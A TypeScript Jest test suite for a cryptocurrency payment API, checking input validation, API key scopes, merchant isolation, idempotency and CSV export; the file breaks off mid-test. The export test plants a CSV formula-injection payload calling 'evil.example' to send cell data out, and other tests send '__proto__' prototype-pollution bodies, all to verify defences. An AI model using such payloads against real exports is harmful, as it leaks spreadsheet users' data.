import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { createConfig, lintFromString } from '@redocly/openapi-core';
import { type ApiKeyBody, type CreatedApiKeyBody, type MerchantBody } from '../../src/auth/dto/auth.dto.js';
import { RATES } from '../../src/config/configuration.module.js';
import { NO_RATES, type RatesConfig } from '../../src/config/rates.js';
import { type PaymentView } from '../../src/payments/payment.view.js';
import { TEST_MNEMONIC, TestApp } from '../harness/app.js';
import { metricsOf } from '../harness/metrics.js';
import { WRITTEN_AMOUNTS } from '../currencies/written-amounts.js';
import { TestChain } from '../harness/test-chain.js';
import { toChainId, toTokenAddress } from '../../src/ids/ids.js';

interface Problem {
  type: string;
  code: string;
  title: string;
  status: number;
  detail: string;
  errors?: { field: string; message: string }[];
}

let chain: TestChain;
let app: TestApp;
const tokens: Record<'listed' | 'disabled' | 'elsewhere', string> = {
  listed: '',
  disabled: '',
  elsewhere: '',
};

beforeAll(async () => {
  chain = await TestChain.start();
  const off = { symbol: 'OFF', address: toTokenAddress(`0x${'11'.repeat(20)}`), decimals: 6, enabled: false };
  const other = {
    ...chain.config,
    name: 'otherchain',
    chainId: toChainId(99),
    rpcUrls: ['http://127.0.0.1:1'],
  };
  const fixed = (base: string, value: string) => ({
    base,
    quote: 'EUR',
    sources: [{ kind: 'fixed' as const, value }],
  });
  const rates = { ...NO_RATES, pairs: [fixed('ETH', '3000'), fixed('TUSD', '0.92')] };
  app = await TestApp.start({ chains: [chain.config, other], rates });
  const { dataSource } = app.database;
  await dataSource.query(
    `INSERT INTO tokens (id, chain_id, address, symbol, decimals, enabled) VALUES (gen_random_uuid(), 31337, $1, $2, 6, false)`,
    [off.address, off.symbol],
  );
  const rows = await dataSource.query<{ id: string; chain_id: string; enabled: boolean }[]>(
    'SELECT id, chain_id, enabled FROM tokens',
  );
  tokens.listed = rows.find((row) => row.chain_id === '31337' && row.enabled)?.id as string;
  tokens.disabled = rows.find((row) => !row.enabled)?.id as string;
  tokens.elsewhere = rows.find((row) => row.chain_id === '99')?.id as string;
});
afterAll(async () => {
  await app?.stop();
  await chain?.stop();
});

const countPayments = async () => {
  const [row] = await app.database.dataSource.query<{ payments: string; events: string }[]>(
    'SELECT (SELECT count(*) FROM payments) AS payments, (SELECT count(*) FROM events) AS events',
  );
  return row;
};

/** As Prometheus is told. */
const paymentsMade = async () =>
  (await metricsOf(app)).get(
    'quittance_payments_created_total{chain="testchain",asset="ETH",token=""}',
  ) as number;

async function keyWith(scopes: string[], merchantId = app.merchantId): Promise<CreatedApiKeyBody> {
  const body = { merchant_id: merchantId, name: 'k', scopes };
  return (await app.request<CreatedApiKeyBody>('POST', '/api/v1/api-keys', body)).body;
}

/** A refusal is a problem document that names the field, and leaves everything as it was. */
async function expectRefusal(
  answer: Promise<{ status: number; headers: Headers; body: unknown }>,
  status: number,
  detail: RegExp,
): Promise<Problem> {
  const before = await countPayments();
  const { status: given, headers, body } = await answer;
  const problem = body as Problem;
  expect({ status: given, type: headers.get('content-type') }).toEqual({
    status,
    type: expect.stringMatching(/^application\/problem\+json/),
  });
  expect(problem).toMatchObject({ status, title: expect.any(String), type: expect.any(String) });
  expect(problem.detail).toMatch(detail);
  expect(await countPayments()).toEqual(before);
  return problem;
}

const post = (body: unknown, headers?: Record<string, string>) =>
  app.request('POST', '/api/v1/payments', body, headers);

describe('POST /payments refuses', () => {
  const good = { chain: 'testchain', amount: '1000' };

  it.each<[string, Record<string, unknown>, string, RegExp]>([
    ['an unknown chain', { chain: 'nochain' }, 'chain', /no chain "nochain" here.*testchain/],
    [
      'an unknown token',
      { token_id: '018f0000-0000-7000-8000-000000000000' },
      'token_id',
      /is not known here/,
    ],
    ['a token id that is none', { token_id: 'usdt' }, 'token_id', /UUID/],
    ['amount 0', { amount: 0 }, 'amount', /above zero/],
    ['amount "0"', { amount: '0' }, 'amount', /above zero/],
    ['a negative amount', { amount: '-5' }, 'amount', /above zero/],
    ['a fractional amount', { amount: 1.5 }, 'amount', /fraction/],
    ['a fractional string', { amount: '1.5' }, 'amount', /fraction/],
    ['an amount above 2^256−1', { amount: (2n ** 256n).toString() }, 'amount', /2\^256−1/],
    ['a JSON number above 2^53−1', { amount: 2 ** 53 }, 'amount', /lost digits.*send it as a string/],
    ['no amount', { amount: undefined }, 'amount', /amount: is missing/],
    ['a symbol for a token id', { token_id: 'TUSD' }, 'token_id', /ids are in GET \/chains/],
    ['an empty token id', { token_id: '' }, 'token_id', /ids are in GET \/chains/],
    ['a chain id', { chain: '31337' }, 'chain', /^chain: "31337" is a chain id; .* named "testchain"/],
    ['a chain id as a number', { chain: 31337 }, 'chain', /^chain: must be the name of a chain, which GET/],
    ['no text as a chain', { chain: ['testchain'] }, 'chain', /^chain: must be the name of a chain/],
    ['a symbol', { symbol: 'TUSD' }, 'symbol', /did you mean token_id\?/],
    ['an asset', { asset: 'TUSD' }, 'asset', /did you mean token_id\?/],
    ['a currency beside the amount', { currency: 'EUR' }, 'currency', /mean price, as \{"amount": "49.90"/],
    ['what other APIs call it', { order_id: '7' }, 'order_id', /did you mean reference\?/],
    ['what nothing is like', { zzzzzzzz: 1 }, 'zzzzzzzz', /there are: chain, amount, .*reference/],
    [
      'quoted minutes',
      { expires_in_minutes: '5' },
      'expires_in_minutes',
      /whole|integer.*, without quotation/,
    ],
    ['half of a name', { token: 'TUSD' }, 'token', /did you mean token_id\?/],
    ['another spelling', { expiresInMinutes: 5 }, 'expiresInMinutes', /did you mean expires_in_minutes\?/],
    ['metadata above 16 KB', { metadata: { a: 'x'.repeat(17_000) } }, 'metadata', /16384 bytes/],
    ['metadata that is no object', { metadata: [1] }, 'metadata', /^metadata: must be a JSON object/],
    ['metadata with NUL', { metadata: { a: '\0' } }, 'metadata', /NUL/],
    ['a reference with NUL', { reference: 'a\0' }, 'reference', /NUL/],
    ['an expiry of 0', { expires_in_minutes: 0 }, 'expires_in_minutes', /must not be less than 1/],
    ['a field it does not know', { amout: '5' }, 'amout', /is not known here/],
    ['a field that every object has', { constructor: 'x' }, 'constructor', /is not known here/],
    ['another that every object has', { toString: 'x' }, 'toString', /is not known here/],
  ])('%s', async (_what, change, field, detail) => {
    const problem = await expectRefusal(post({ ...good, ...change }), 400, detail);
    expect(problem.errors?.map((error) => error.field)).toContain(field);
  });

  it('whatever is no amount, of base units and of prices alike', async () => {
    const none: unknown[] = [
      ...[
        '',
        ' ',
        ' 5',
        '5 ',
        '+5',
        '-5',
        '-0',
        '0',
        '00',
        '007',
        '0x10',
        '0b1',
        '1e3',
        '1E3',
        '1,5',
        '1.5.5',
      ],
      ...[
        '1_000',
        "1'000",
        '1 000',
        '1\u00a0000',
        '5n',
        '５',
        '٥',
        '५',
        '½',
        '²',
        'Infinity',
        'NaN',
        'null',
        '5\n',
      ],
      ...['\u200b5', '.', '5.', '.5', '9'.repeat(79), '9'.repeat(5_000), (2n ** 256n).toString()],
      ...[0, -1, 1.5, 1e21, 1e-7, 2 ** 53, true, [5], ['5'], { amount: '5' }, null],
    ];
    const before = await countPayments();
    const taken: unknown[] = [];
    for (const amount of none)
      for (const body of [{ ...good, amount }, { price: { amount, currency: 'EUR' } }]) {
        const { status, body: problem } = await post(body);
        if (status !== 400 || !String(problem.detail).includes('amount')) taken.push([body, status, problem]);
      }
    // As no JavaScript would write it: beyond a double, and a number that is not zero only before it is read.
    for (const number of ['1e400', '-1e400', '-0', '0.0', '123456789012345678901234567890']) {
      const { status } = await post(`{"chain":"testchain","amount":${number}}`);
      if (status !== 400) taken.push([number, status]);
    }
    expect(taken).toEqual([]);
    expect(await countPayments()).toEqual(before);
  });

  it('a disabled token, and one of another chain', async () => {
    await expectRefusal(post({ ...good, token_id: tokens.disabled }), 400, /is disabled/);
    await expectRefusal(post({ ...good, token_id: tokens.elsewhere }), 400, /is not on chain "testchain"/);
  });

  it.each([
    ['{"chain":', 400, /not valid JSON: Unexpected end/],
    ['{"chain":"testchain",}', 400, /not valid JSON: .*position 21/],
    ['', 400, /^chain: is missing; amount: is missing$/],
    ['[]', 400, /must be a JSON object.*it is an array/],
    ['"text"', 400, /it is a string/],
    ['null', 400, /it is null/],
    ['{}', 400, /^chain: is missing; amount: is missing$/],
    [`{"a":${'['.repeat(1000)}`, 400, /64 levels/],
    [
      '{"chain":"testchain","amount":"1","metadata":{"order":12345678901234567890}}',
      400,
      /^metadata: .* string$/,
    ],
    ['{"chain":"testchain","amount":"1","amount":"2"}', 400, /"amount" twice/],
    [`{"__proto__":{"chain":"testchain"},"amount":"1"}`, 400, /"__proto__"/],
    [`{"chain":"testchain","amount":"1","metadata":{"a":"${'x'.repeat(270_000)}"}}`, 413, /256 KB/],
  ])('the body %.40j', async (body, status, detail) => {
    await expectRefusal(post(body), status, detail);
  });

  it('a body that is compressed, or of another charset', async () => {
    await expectRefusal(post('{}', { 'content-encoding': 'gzip' }), 415, /content-encoding: gzip/);
    await expectRefusal(post('{}', { 'content-type': 'application/json; charset=latin1' }), 415, /latin1/);
  });

  it('a body that is not sent as JSON', async () => {
    await expectRefusal(
      post('chain=testchain', { 'content-type': 'application/x-www-form-urlencoded' }),
      415,
      /content-type: application\/json/,
    );
  });
});

describe('a price', () => {
  const price = { amount: '49.90', currency: 'EUR' };
  const token = () => ({ chain: 'testchain', token_id: tokens.listed });
  const priced = async (body: object, headers?: Record<string, string>) =>
    (await post({ price, ...body }, headers)) as unknown as { status: number; body: PaymentView };

  it('is offered in every asset that is enabled, at one address, by the rates of now', async () => {
    const { status, body } = await priced({ reference: 'in euros' });
    expect(status).toBe(201);
    expect(body.price).toEqual({ ...price, chain: null, received: '0.00', due: '49.90' });
    const offered = body.options.map(({ chain: name, symbol, amount, amount_due: due }) => [
      `${name}/${symbol}`,
      amount,
      due,
    ]);
    // 49.90 / 3000 = 0.016633…, and 49.90 / 0.92 = 54.239130…, each up to six digits.
    const [ether, tusd] = ['16633400000000000', '54239200'];
    expect(offered).toEqual([
      ['testchain/ETH', ether, ether],
      ['testchain/TUSD', tusd, tusd],
      ['otherchain/ETH', ether, ether],
      ['otherchain/TUSD', tusd, tusd],
    ]);
    expect(body.options[0]?.rate).toEqual({ value: '3000', sources: ['fixed'], at: expect.any(String) });
    expect(body).toMatchObject({ chain: 'testchain', token_id: null, amount: ether, unavailable: [] });
    expect((await app.request('GET', `/api/v1/payments/${body.id}`)).body).toEqual(body);
  });

  it('keeps to what the request accepts, in its order, each once', async () => {
    const { body } = await priced({ accept: [token(), { chain: 'testchain' }, token()] });
    expect(body.options.map(({ symbol }) => symbol)).toEqual(['TUSD', 'ETH']);
    expect(body).toMatchObject({ chain: 'testchain', symbol: 'TUSD', amount: '54239200' });
  });

  it('keeps to what the merchant accepts, which no request widens', async () => {
    const choosy = { name: 'choosy', accept: [token()] };
    const merchant = (await app.request<MerchantBody>('POST', '/api/v1/merchants', choosy)).body;
    const { key } = await keyWith(['payments:write'], merchant.id);
    const headers = { authorization: `Bearer ${key}` };
    expect((await priced({}, headers)).body.options.map(({ symbol }) => symbol)).toEqual(['TUSD']);
    const wider = await expectRefusal(
      post({ price, accept: [token(), { chain: 'testchain' }] }, headers),
      400,
      /testchain\/ETH, which this merchant does not accept/,
    );
    expect(wider.code).toBe('asset_not_accepted');
  });

  it('may be in an asset: exact in that one, by its rate in others', async () => {
    const inTusd = { price: { amount: '20.5', currency: 'TUSD', chain: 'testchain' }, accept: [token()] };
    const { body } = await priced(inTusd);
    expect(body.price).toMatchObject({ amount: '20.5', currency: 'TUSD', chain: 'testchain', due: '20.5' });
    expect(body.options[0]).toMatchObject({
      amount: '20500000',
      rate: { value: '1', sources: [], at: null },
    });
  });

  it('is refused with a reason for each asset where none can be offered, and nothing is made', async () => {
    const problem = await expectRefusal(
      post({ price: { amount: '5', currency: 'GBP' } }),
      422,
      /no pair of rates.yaml leads from ETH to GBP/,
    );
    expect(problem).toMatchObject({ code: 'not_priced', type: expect.stringContaining('not_priced') });
    expect(problem.errors?.map(({ field }) => field)).toEqual([
      'testchain',
      `testchain/${tokens.listed}`,
      'otherchain',
      `otherchain/${tokens.elsewhere}`,
    ]);
  });

  it.each<[string, object, RegExp]>([
    ['beside an amount', { price, amount: '1' }, /^amount: does not go with price/],
    ['beside a chain', { price, chain: 'testchain' }, /^chain: does not go with price/],
    ['that is text', { price: '49.90 EUR' }, /^price: must be \{"amount": "49.90", "currency": "EUR"\}/],
    ['that is a list', { price: [price] }, /^price: must be \{/],
    ['without a currency', { price: { amount: '1' } }, /^price.currency: is missing/],
    [
      'with a misspelt field',
      { price: { ...price, curency: 'EUR' } },
      /^price.curency: .*did you mean currency/,
    ],
    ['of no money', { price: { ...price, amount: '0' } }, /^price.amount: must be above zero/],
    ['as a number', { price: { ...price, amount: 49.9 } }, /^price.amount: must be a string/],
    ['as an object', { price: { ...price, amount: { a: 1 } } }, /^price.amount: must be a decimal string/],
    ['with a comma', { price: { ...price, amount: '1,5' } }, /^price.amount: must have a point/],
    ['too exact', { price: { ...price, amount: '49.901' } }, /^price.amount: has 3 decimals, and EUR has 2/],
    ['in half yen', { price: { amount: '100.5', currency: 'JPY' } }, /^price.amount: must be a whole number/],
    ['in leva', { price: { amount: '1', currency: 'BGN' } }, /^price.currency: .*make the price in "EUR"/],
    ['in nothing', { price: { amount: '1', currency: 'XYZ' } }, /^price.currency: "XYZ" is no currency/],
    [
      'in an asset of no chain',
      { price: { amount: '1', currency: 'TUSD' } },
      /^price.currency: "TUSD" is no currency .*; for a price in the asset add its chain: "chain": "testchain"/,
    ],
    [
      'on no chain',
      { price: { amount: '1', currency: 'ETH', chain: 'mars' } },
      /^price.chain: there is no chain/,
    ],
    ['in no asset', { price: { ...price, chain: 'testchain' } }, /^price.currency: is no asset .*ETH, TUSD/],
    ['accepting nothing', { price, accept: [] }, /^accept: must name at least one/],
    [
      'accepting nowhere',
      { price, accept: [{ chain: 'mars' }] },
      /^accept.0.chain: there is no chain "mars"/,
    ],
    [
      'missing where assets are accepted',
      { chain: 'testchain', amount: '1', accept: [{ chain: 'testchain' }] },
      /^accept: goes with price/,
    ],
  ])('%s is refused', async (_what, body, detail) => {
    await expectRefusal(post(body), 400, detail);
  });

  it('takes each amount as its currency is written, or says what is wrong with it', async () => {
    for (const [amount, currency, why] of WRITTEN_AMOUNTS) {
      const { status, body } = await post({ price: { amount, currency } });
      const { code, errors } = body as { code?: string; errors?: { field: string; message: string }[] };
      if (why === null && currency === 'EUR') expect([amount, status]).toEqual([amount, 201]);
      // Nobody prices yen here: that is what is said of an amount that is right.
      else if (why === null) expect([amount, code]).toEqual([amount, 'not_priced']);
      else
        expect([amount, status, errors]).toEqual([
          amount,
          400,
          [{ field: 'price.amount', message: expect.stringMatching(why) }],
        ]);
    }
  });

  it('is made once per Idempotency-Key, whatever it comes to by then', async () => {
    const headers = { 'idempotency-key': 'priced-once' };
    const first = await priced({}, headers);
    const again = await priced({}, headers);
    expect(again).toMatchObject({ status: 201, body: first.body });
    await expectRefusal(post({ price: { ...price, amount: '49.91' } }, headers), 409, /another request/);
    // Nobody prices anything any more: who repeats the request is answered all the same, and nobody else.
    const rates = app.get<RatesConfig>(RATES);
    const pairs = rates.pairs.splice(0);
    try {
      expect(await priced({}, headers)).toMatchObject({ status: 201, body: first.body });
      await expectRefusal(post({ price }, { 'idempotency-key': 'priced-later' }), 422, /no pair/);
    } finally {
      rates.pairs.push(...pairs);
    }
    // A refusal is no answer to keep: the same key makes the payment when there is a rate again.
    expect(await priced({}, { 'idempotency-key': 'priced-later' })).toMatchObject({ status: 201 });
  });

  it('is exported, as CSV that no spreadsheet takes for formulas or as JSON, a line for each option', async () => {
    const reference = '=HYPERLINK("https://evil.example?"&A1,"pay")';
    const { body: made } = await priced({ price: { amount: '8.31', currency: 'EUR' }, reference });
    const exported = async (query: string) => {
      const url = `${app.url}/api/v1/payments/export?${query}`;
      const answer = await fetch(url, { headers: { authorization: `Bearer ${app.key}` } });
      return { status: answer.status, type: answer.headers.get('content-type'), text: await answer.text() };
    };
    const filter = 'currency=EUR&price_min=8.31&price_max=8.31';
    const csv = await exported(filter);
    expect(csv).toMatchObject({ status: 200, type: 'text/csv; charset=utf-8' });
    const [head, ...lines] = csv.text.trimEnd().split('\r\n');
    expect(head?.split(',')).toEqual(
      expect.arrayContaining(['price_amount', 'price_currency', 'amount', 'rate', 'value_received']),
    );
    expect(lines).toHaveLength(made.options.length);
    expect(lines.every((line) => line.includes(`,"'=HYPERLINK(""https:`))).toBe(true);
    const asJson = await exported(`${filter}&format=jsonl`);
    const rows = asJson.text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(rows.map(({ option, symbol, amount }) => [option, symbol, amount])).toEqual(
      made.options.map(({ symbol, amount }, index) => [index + 1, symbol, amount]),
    );
    expect(rows[0]).toMatchObject({
      payment_id: made.id,
      reference,
      price_amount: '8.31',
      price_currency: 'EUR',
      rate: '3000',
      value_received: '0.00',
      options: made.options.length,
    });
    const everything = await exported('format=jsonl');
    expect(everything.text.split('\n').length).toBeGreaterThan(rows.length + 1);
    expect((await exported('format=xls')).status).toBe(400);
    expect((await exported('limit=5')).status).toBe(400);
    expect((await exported('chain=nochain')).status).toBe(400);
  });

  it('is what payments are listed by, and the asset they show', async () => {
    const { body: made } = await priced({ price: { amount: '7.25', currency: 'EUR' }, accept: [token()] });
    const listed = async (query: string) =>
      (await app.request<{ data: PaymentView[] }>('GET', `/api/v1/payments?limit=100&${query}`)).body.data;
    const between = await listed('currency=EUR&price_min=7&price_max=7.25');
    expect(between.map(({ id }) => id)).toEqual([made.id]);
    expect(await listed('currency=EUR&price_min=7.26&price_max=7.3')).toEqual([]);
    expect(await listed('currency=USD')).toEqual([]);
    const inTusd = await listed('asset=testchain/TUSD&currency=EUR');
    expect(inTusd.map(({ id }) => id)).toContain(made.id);
    expect(new Set(inTusd.map(({ symbol }) => symbol))).toEqual(new Set(['TUSD']));
    const list = (query: string) => app.request('GET', `/api/v1/payments?${query}`);
    await expectRefusal(list('price_min=1'), 400, /price_min: needs currency/);
    await expectRefusal(list('currency=JPY&price_min=1.5'), 400, /at most 0 decimals/);
    await expectRefusal(list('currency=eur'), 400, /currency: must be in capitals: currency=EUR/);
    // An asset may be called as a currency is; its prices are in units of its own.
    const priceIsIn = (chain: string | null) =>
      app.database.dataSource.query('UPDATE payments SET price_chain = $2 WHERE id = $1', [made.id, chain]);
    await priceIsIn('testchain');
    expect(await listed('currency=EUR&price_min=7&price_max=7.25')).toEqual([]);
    expect((await listed('currency=EUR')).map(({ id }) => id)).toContain(made.id);
    await priceIsIn(null);
    await expectRefusal(list('asset=testchain/XYZ'), 400, /there is no "XYZ" on "testchain"/);
    await expectRefusal(list('asset=ETH'), 400, /as in base\/USDC/);
  });
});

describe('a key', () => {
  it('is needed', async () => {
    const problem = await expectRefusal(post({}, { authorization: '' }), 401, /send an API key/);
    expect(problem.type).toContain('unauthenticated');
    const { headers } = await post({}, { authorization: '' });
    expect(headers.get('www-authenticate')).toBe('Bearer realm="quittance"');
    await expectRefusal(post({}, { authorization: 'Bearer qk_nonsense' }), 401, /not known here/);
  });

  it('is taken from either header', async () => {
    const { key } = await keyWith(['payments:read']);
    const byPlainHeader = { authorization: '', 'x-api-key': key };
    expect((await app.request('GET', '/api/v1/payments', undefined, byPlainHeader)).status).toBe(200);
  });

  it('that was revoked is refused from the next request on', async () => {
    const { id, key } = await keyWith(['payments:write']);
    const headers = { authorization: `Bearer ${key}` };
    expect((await post({ chain: 'testchain', amount: '1' }, headers)).status).toBe(201);
    const revoked = await app.request<ApiKeyBody>('DELETE', `/api/v1/api-keys/${id}`);
    expect(revoked.body.revoked_at).not.toBeNull();
    await expectRefusal(post({ chain: 'testchain', amount: '1' }, headers), 401, /was revoked/);
  });

  it('without the scope is refused, and told which one', async () => {
    const { key } = await keyWith(['payments:read']);
    await expectRefusal(
      post({ chain: 'testchain', amount: '1' }, { authorization: `Bearer ${key}` }),
      403,
      /payments:write/,
    );
    await expectRefusal(
      app.request('GET', '/api/v1/merchants', undefined, { authorization: `Bearer ${key}` }),
      403,
      /admin/,
    );
  });

  it('is shown once, kept as a hash, and never logged', async () => {
    const operator = { name: 'k', operator: true };
    const { key, id } = (await app.request<CreatedApiKeyBody>('POST', '/api/v1/api-keys', operator)).body;
    const { body } = await app.request<{ data: ApiKeyBody[] }>('GET', '/api/v1/api-keys?limit=100');
    expect(body.data.find((row) => row.id === id)).toMatchObject({ prefix: key.slice(0, 9) });
    expect(JSON.stringify(body)).not.toContain(key);
    const dump = JSON.stringify(
      await app.database.dataSource.query('SELECT * FROM api_keys, idempotency_records'),
    );
    expect(dump).not.toContain(key);
    const log = app.log.join('');
    for (const secret of [key, app.key, TEST_MNEMONIC]) expect(log).not.toContain(secret);
  });
});

describe('an operator’s key', () => {
  const create = (body: object, headers?: Record<string, string>) =>
    app.request<CreatedApiKeyBody & Problem>('POST', '/api/v1/api-keys', { name: 'o', ...body }, headers);

  it('is of no merchant, and acts for the one that a request names', async () => {
    const { body: operator } = await create({ operator: true });
    expect(operator).toMatchObject({ merchant_id: null, operator: true, key: expect.stringMatching(/^qo_/) });
    const bare = { authorization: `Bearer ${operator.key}` };
    await expectRefusal(app.request('GET', '/api/v1/payments', undefined, bare), 403, /X-Merchant-Id/);
    const named = { ...bare, 'x-merchant-id': app.merchantId };
    const made = await post({ chain: 'testchain', amount: '7' }, named);
    expect(made.status).toBe(201);
    expect((await app.payment(made.body.id as string)).amount).toBe('7');
    const unknown = { ...bare, 'x-merchant-id': '018f0000-0000-7000-8000-000000000000' };
    await expectRefusal(post({ chain: 'testchain', amount: '7' }, unknown), 404, /there is no merchant/);
    const request = { name: 'by an operator' };
    const once = { ...bare, 'idempotency-key': 'operator-1' };
    const [first, again] = [
      await app.request<MerchantBody>('POST', '/api/v1/merchants', request, once),
      await app.request<MerchantBody>('POST', '/api/v1/merchants', request, once),
    ];
    expect(again.body).toEqual(first.body);
    const read = await app.request<MerchantBody>(
      'GET',
      `/api/v1/merchants/${first.body.id}`,
      undefined,
      bare,
    );
    expect(read.body).toEqual(first.body);
  });

  it('is never made of a merchant’s, by the API or in the database', async () => {
    const admin = create({ merchant_id: app.merchantId, scopes: ['payments:read', 'admin'] });
    await expectRefusal(admin, 400, /admin is an operator’s/);
    await expectRefusal(create({ merchant_id: app.merchantId, operator: true }), 400, /has to be left out/);
    const { key, id } = await keyWith(['payments:read']);
    const merchants = { authorization: `Bearer ${key}` };
    await expectRefusal(create({ operator: true }, merchants), 403, /scope admin/);
    const asAnother = { ...merchants, 'x-merchant-id': '018f0000-0000-7000-8000-000000000000' };
    await expectRefusal(app.request('GET', '/api/v1/payments', undefined, asAnother), 403, /its own/);
    const { dataSource } = app.database;
    const raise = dataSource.query(`UPDATE api_keys SET scopes = '{admin}' WHERE id = $1`, [id]);
    await expect(raise).rejects.toThrow(/api_keys_operator_check/);
  });

  it('is told from others by GET /me and in the list', async () => {
    const { body: operator } = await create({ operator: true });
    const me = async (key: string) =>
      (await app.request('GET', '/api/v1/me', undefined, { authorization: `Bearer ${key}` })).body;
    expect(await me(operator.key)).toMatchObject({
      merchant: null,
      key: { id: operator.id, operator: true },
    });
    const { key } = await keyWith(['webhooks:read']);
    expect(await me(key)).toMatchObject({ merchant: { id: app.merchantId }, livemode: false });
    const { body } = await app.request<{ data: ApiKeyBody[] }>(
      'GET',
      '/api/v1/api-keys?operator=true&limit=100',
    );
    expect(body.data.map(({ id }) => id)).toContain(operator.id);
    expect(body.data.every((one) => one.operator)).toBe(true);
  });
});

describe('a failure that nobody foresaw', () => {
  it('is a 500 that tells nothing, and a log line that tells what happened but not what was sent', async () => {
    const { dataSource } = app.database;
    await dataSource.query('ALTER TABLE payments ADD CONSTRAINT broken_for_test CHECK (false) NOT VALID');
    const headers = { 'x-request-id': 'broken-1' };
    const body = { chain: 'testchain', amount: '1', reference: 'reference-of-a-customer' };
    const problem = await expectRefusal(post(body, headers), 500, /something went wrong here.*request_id/);
    await dataSource.query('ALTER TABLE payments DROP CONSTRAINT broken_for_test');
    expect(problem).toEqual({
      type: 'about:blank',
      code: 'internal_error',
      title: 'Internal error',
      status: 500,
      detail: expect.any(String),
      request_id: 'broken-1',
    });
    const lines = app.log.filter((line) => line.includes('broken-1'));
    expect(lines.join('')).toContain('broken_for_test');
    expect(lines.join('')).not.toContain('reference-of-a-customer');
  });
});

describe('merchants', () => {
  it('never see each other’s payments', async () => {
    const merchant = (await app.request<MerchantBody>('POST', '/api/v1/merchants', { name: 'other' })).body;
    const { key } = await keyWith(['payments:read', 'payments:write'], merchant.id);
    const headers = { authorization: `Bearer ${key}` };
    const mine = await app.createPayment();
    await expectRefusal(
      app.request('GET', `/api/v1/payments/${mine.id}`, undefined, headers),
      404,
      /there is no payment/,
    );
    const theirs = (await post({ chain: 'testchain', amount: '5' }, headers)).body as unknown as PaymentView;
    const list = await app.request<{ data: PaymentView[] }>('GET', '/api/v1/payments', undefined, headers);
    expect(list.body.data.map(({ id }) => id)).toEqual([theirs.id]);
  });

  it.each([
    ['merchants', { name: ' \u3164 ' }, /name: is blank/],
    ['merchants', { name: '\u200b' }, /name: is blank/],
    [
      'webhook-endpoints',
      { url: 'https://shop.example/hook', event_types: null },
      /event_types: must not be null/,
    ],
    [
      'payment-links',
      { title: ' ', price: { amount: '1', currency: 'ETH', chain: 'testchain' } },
      /title: is blank/,
    ],
    [
      'payment-links',
      {
        title: 'Course',
        price: { amount: '1', currency: 'ETH', chain: 'testchain' },
        expires_at: '2020-01-01T00:00:00Z',
      },
      /expires_at: 2020-01-01T00:00:00\.000Z has passed already/,
    ],
  ])('make no %s of %j', async (list, body, why) => {
    await expectRefusal(app.request('POST', `/api/v1/${list}`, body), 400, why);
  });

  it('send no refund to nobody, and are told why', async () => {
    const { id } = await app.createPayment();
    const to = `0x${'0'.repeat(40)}`;
    await expectRefusal(
      app.request('POST', `/api/v1/payments/${id}/refunds`, { to, amount: '1' }),
      400,
      /^to is the zero address, which is nobody’s/,
    );
  });

  it('accept everything at first, and what they say from then on', async () => {
    const merchant = (await app.request<MerchantBody>('POST', '/api/v1/merchants', { name: 'choosy' })).body;
    expect(merchant.accept).toBeNull();
    const update = (accept: unknown) =>
      app.request<MerchantBody>('PATCH', `/api/v1/merchants/${merchant.id}`, { accept });
    const token = { chain: 'testchain', token_id: tokens.listed };
    const chosen = await update([token, { chain: 'otherchain' }, token]);
    expect(chosen.body.accept).toEqual([token, { chain: 'otherchain', token_id: null }]);
    expect((await update(undefined)).body.accept).toEqual(chosen.body.accept);
    expect((await update(chosen.body.accept)).body.accept).toEqual(chosen.body.accept);

    await expectRefusal(update([{ chain: 'nochain' }]), 400, /accept.0.chain: there is no chain "nochain"/);
    const elsewhere = { chain: 'testchain', token_id: tokens.elsewhere };
    await expectRefusal(update([token, elsewhere]), 400, /accept.1.token_id: .*is on chain "otherchain"/);
    const unknown = { chain: 'testchain', token_id: '018f0000-0000-4000-8000-000000000000' };
    await expectRefusal(update([unknown]), 400, /accept.0.token_id: .*is not known here/);
    await expectRefusal(update([{ chain: 'testchain', token: 'x' }]), 400, /accept.0.token: .*token_id/);
    await expectRefusal(update([]), 400, /null accepts everything/);
    await expectRefusal(update('testchain'), 400, /accept/);
    await expectRefusal(update([null]), 400, /accept/);
    expect((await update(null)).body.accept).toBeNull();
  });

  it.each(['not-a-uuid', '018f0000-0000-7000-8000-000000000000'])(
    'get 404 for the payment %s',
    async (id) => {
      await expectRefusal(app.request('GET', `/api/v1/payments/${id}`), 404, /there is no payment/);
    },
  );
});

describe('Idempotency-Key', () => {
  const body = { chain: 'testchain', amount: '1000', metadata: { b: 1, a: 2 } };

  it('gives the first answer again for the same request, its keys in any order', async () => {
    const headers = { 'idempotency-key': 'order-1' };
    const first = await post(body, headers);
    const again = await post({ metadata: { a: 2, b: 1 }, amount: '1000', chain: 'testchain' }, headers);
    expect(again).toMatchObject({ status: 201, body: first.body });
    expect(first.headers.get('idempotent-replayed')).toBeNull();
    expect(again.headers.get('idempotent-replayed')).toBe('true');
  });

  it('is refused with another request', async () => {
    const headers = { 'idempotency-key': 'order-2' };
    await post(body, headers);
    await expectRefusal(post({ ...body, amount: '1001' }, headers), 409, /another request/);
  });

  it('makes one payment of many requests at the same time', async () => {
    const before = Number((await countPayments())?.payments);
    const told = await paymentsMade();
    const answers = await Promise.all(
      Array.from({ length: 12 }, () => post(body, { 'idempotency-key': 'order-3' })),
    );
    expect(new Set(answers.map((answer) => (answer.body as unknown as PaymentView).id)).size).toBe(1);
    expect(answers.every(({ status }) => status === 201)).toBe(true);
    expect(Number((await countPayments())?.payments)).toBe(before + 1);
    expect(await paymentsMade()).toBe(told + 1);
  });

  it('comes with more requests at a time than there are database connections', async () => {
    const answers = await Promise.all(
      Array.from({ length: 50 }, (_, order) => post(body, { 'idempotency-key': `many-${order}` })),
    );
    expect(answers.map(({ status }) => status)).toEqual(Array.from({ length: 50 }, () => 201));
  });

  it('belongs to one merchant', async () => {
    const merchant = (await app.request<MerchantBody>('POST', '/api/v1/merchants', { name: 'third' })).body;
    const { key } = await keyWith(['payments:write'], merchant.id);
    const mine = await post(body, { 'idempotency-key': 'order-4' });
    const theirs = await post(body, { 'idempotency-key': 'order-4', authorization: `Bearer ${key}` });
    expect(theirs.status).toBe(201);
    expect((theirs.body as unknown as PaymentView).id).not.toBe((mine.body as unknown as PaymentView).id);
  });

  it('gives a created API key again, which is stored sealed', async () => {
    const request = { merchant_id: app.merchantId, name: 'k', scopes: ['payments:read'] };
    const headers = { 'idempotency-key': 'key-1' };
    const first = await app.request<CreatedApiKeyBody>('POST', '/api/v1/api-keys', request, headers);
